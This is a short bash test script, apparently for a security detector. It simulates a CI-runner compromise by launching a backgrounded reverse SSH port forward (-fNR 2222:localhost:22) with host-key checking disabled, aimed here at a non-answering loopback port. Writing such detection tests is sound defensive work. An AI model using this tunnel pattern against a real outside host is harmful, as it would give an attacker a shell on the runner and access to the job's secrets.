#!/bin/bash
# technique: T1572 Protocol Tunneling; T1219 Remote Access Software
# reproduces: CI compromises that open a way back into the runner while the job runs: a reverse SSH port forward to an attacker's host (the Ultralytics and GhostAction follow-ups, action-tmate sessions left in forks' workflows), giving a shell and the job's secrets from outside
# expect: remote-access-tunnel ^ssh$
# exec-borne: no
#
# The forward is asked of a host that does not answer (loopback, a closed
# port): the exec is what the agent judges, not whether it got through.
set -u
command -v ssh >/dev/null || exit 77

KEY_DIR=$(mktemp -d "${BW_ATTACK_TMP:?}/t-XXXXXX")
trap 'rm -rf "$KEY_DIR"' EXIT

ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no \
	-o UserKnownHostsFile="$KEY_DIR/known_hosts" -p 1 \
	-fNR 2222:localhost:22 tunnel@127.0.0.1 2>/dev/null || true
